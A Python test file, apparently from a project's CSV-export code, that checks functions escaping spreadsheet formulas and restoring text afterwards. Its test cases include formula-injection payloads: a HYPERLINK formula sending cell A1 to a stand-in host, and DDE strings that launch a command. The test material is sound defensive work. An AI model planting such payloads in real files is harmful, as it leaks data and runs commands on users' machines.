"""What a spreadsheet would run leaves as text, and comes back as it was."""

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from ownway.kit.files import defused, undefused

CELLS = st.text(alphabet="=+-@'\t\r\n 07a（＝−", max_size=12) | st.text(max_size=40)


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        " =1+1",
        "＝1+1",
        "-",
        "+44-7700-900091",
        "'=1",
    ],
)
def test_what_would_run_does_not(cell: str) -> None:
    assert defused(cell) == f"'{cell}"


@pytest.mark.parametrize(
    "cell",
    ["+447700900091", "+44 7700 900091", "07700 900091", "", "'tis", "don’t", "a=b", "£10", "1-2"],
)
def test_what_is_only_text_stays(cell: str) -> None:
    assert defused(cell) == cell
    assert undefused(cell) == cell


@given(CELLS)
@example("+44 7700 900091")
@example("'+44 7700 900091")
@example("''=1")
@example("'")
def test_out_and_in_again_is_what_it_was(cell: str) -> None:
    assert undefused(defused(cell)) == cell


@given(CELLS)
def test_nothing_leaves_that_would_run(cell: str) -> None:
    out = defused(cell)
    runs = out.lstrip(" ")[:1] in {"=", "+", "-", "@", "\t", "\r"}
    assert not runs or set(out) <= set("+0123456789 ")


def test_a_phone_number_from_elsewhere_survives_in_then_out() -> None:
    assert defused(undefused("+44 7700 900091")) == "+44 7700 900091"
    assert undefused("'+44 7700 900091") == "+44 7700 900091"
